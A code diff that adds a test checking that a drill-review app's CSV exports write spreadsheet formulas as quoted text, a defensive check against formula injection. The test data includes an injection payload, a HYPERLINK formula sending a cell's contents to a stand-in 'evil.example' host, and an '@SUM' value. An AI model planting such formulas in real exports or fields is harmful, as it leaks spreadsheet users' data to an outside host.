@@ -134,3 +134,32 @@ def test_pdf_is_a_real_document_with_the_whole_review(client, team):
         "« correcte »",
     ):
         assert expected in " ".join(text.split()), expected
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+
+
+def test_csv_exports_write_formulas_as_text(client, session, team):
+    drill, user = team.drill, team.trainer
+    review_items.add_annotation(
+        session=session,
+        drill=drill,
+        user=user,
+        annotation_in=AnnotationCreate(target_kind="action", target_id="action:0", body=FORMULA),
+    )
+    review_items.set_override(
+        session=session,
+        drill=drill,
+        user=user,
+        override_in=OverrideCreate(
+            metric="responsiveness.time_to_first_response_s",
+            value=50,
+            justification="@SUM(1) the reviewer says so",
+        ),
+    )
+    sign_in(client, team.monitor)
+    actions = read_csv(client.get(f"/drills/{drill.id}/review/actions.csv"))
+    assert actions[0]["annotations"] == "'" + FORMULA
+    metrics = read_csv(client.get(f"/drills/{drill.id}/review/metrics.csv"))
+    justified = {r["override_justification"] for r in metrics}
+    assert "'@SUM(1) the reviewer says so" in justified
